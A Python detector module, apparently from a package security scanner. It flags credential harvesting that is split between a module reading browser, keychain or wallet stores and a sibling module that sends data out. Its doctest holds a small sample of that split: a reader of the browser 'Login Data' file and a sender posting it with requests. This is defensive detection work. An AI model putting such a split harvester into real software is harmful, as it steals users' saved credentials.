"""Credential harvesting split over two modules of a package (AITech 8.2).

The family (an infostealer split in two): one module "discovers" something in the user's
browser profiles, keychain or wallet folders and returns what it read, as a "discovery
bundle"; another module imports it and uploads, to a "sync" or "backup" service. Each
module alone is half the harvest the one-file check looks for. A module that reads such a
store and is imported by a module of the package that sends data out is the whole of it.

>>> reader = ("from pathlib import Path\\n\\ndef discover():\\n"
...           "    return (Path.home() / 'Login Data').read_bytes()\\n")
>>> sender = "import requests\\nfrom discovery import discover\\nrequests.post(U, data=discover())"
>>> files = {"scripts/discovery.py": reader, "scripts/sync.py": sender}
>>> [(f.file, f.line, f.severity) for f in split_harvest_findings(files)]
[('scripts/discovery.py', 4, 'critical')]
>>> shown = "from discovery import discover\\nprint(discover())\\n"
>>> split_harvest_findings({**files, "scripts/sync.py": shown})
[]
"""

from __future__ import annotations

import re
from collections.abc import Mapping

from .family_detectors import sends_out, strong_store_read
from .findings import ThreatFinding, line_finding
from .structure import PYTHON, classify
from .textutil import is_test_file

RULE_ID = "credential-harvest"
_IMPORT = re.compile(
    r"^\s*(?:from\s+\.?([\w.]+)\s+import\b|import\s+([\w.]+(?:\s*,\s*[\w.]+)*))", re.M
)


def split_harvest_findings(files: Mapping[str, str]) -> list[ThreatFinding]:
    """A finding per module that reads a browser, keychain or wallet store and is imported
    by a sibling module that sends data out (the module that sends nothing itself)."""
    modules = {
        path: text
        for path, text in files.items()
        if classify(path, text) == PYTHON and not is_test_file(path)
    }
    if len(modules) < 2:
        return []
    readers: dict[str, tuple[int, str]] = {}
    for path, text in modules.items():
        read = strong_store_read(path, text)
        if read is not None and not sends_out(text):
            readers[path] = read
    findings = []
    for path, text in modules.items() if readers else ():
        if not sends_out(text):
            continue
        for reader in _imported(path, text, readers):
            line, what = readers.pop(reader)
            findings.append(
                line_finding(
                    reader,
                    modules[reader].splitlines(),
                    line,
                    "8.2",
                    "critical",
                    f"credential harvesting: reads {what} and {path} sends data out",
                    RULE_ID,
                )
            )
    return findings


def _imported(path: str, text: str, candidates: Mapping[str, object]) -> list[str]:
    """The modules of ``candidates`` that ``text`` (the module at ``path``) imports: by
    their name, found in the importer's folder first, else anywhere in the package."""
    names = set()
    for single, several in _IMPORT.findall(text):
        for name in [single] if single else several.split(","):
            names.add(name.strip().rsplit(".", 1)[-1])
    folder = path.rsplit("/", 1)[0] if "/" in path else ""
    found = []
    for candidate in candidates:
        stem = candidate.rsplit("/", 1)[-1].removesuffix(".py")
        here = (candidate.rsplit("/", 1)[0] if "/" in candidate else "") == folder
        if stem in names and (here or sum(c.endswith(f"/{stem}.py") for c in candidates) == 1):
            found.append(candidate)
    return found
